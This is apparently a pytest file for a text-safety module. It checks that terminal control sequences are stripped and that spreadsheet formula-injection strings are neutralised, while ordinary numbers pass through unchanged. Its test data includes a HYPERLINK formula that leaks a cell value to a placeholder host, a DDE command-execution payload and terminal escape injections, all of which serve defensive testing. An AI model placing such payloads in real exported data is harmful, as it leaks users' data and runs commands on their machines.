"""analysis.data.textsafety: controls stripped, formulas defused, numbers left alone."""

from __future__ import annotations

import pytest

from analysis.data import textsafety as T


def test_controls_are_stripped_and_one_line_flattens():
    hostile = "Hwasong\x1b]8;;http://x\x07-20\x9b31m"
    assert T.has_controls(hostile) and T.strip_controls(hostile) == "Hwasong]8;;http://x-2031m"
    assert T.one_line("a\tb\r\nc\x1b[2J") == "a b c[2J"
    assert T.strip_controls("tab\tand\nnewline") == "tab\tand\nnewline"


@pytest.mark.parametrize(
    "text, expected",
    [
        ('=HYPERLINK("http://x?leak="&A2,"Click me")', '\'=HYPERLINK("http://x?leak="&A2,"Click me")'),
        ("+1+2", "'+1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("-3.5", "-3.5"),
        ("+12", "+12"),
        ("1e-3", "1e-3"),
        ("Hwasong-15", "Hwasong-15"),
        ("", ""),
    ],
)
def test_neutralise(text, expected):
    assert T.neutralise(text) == expected
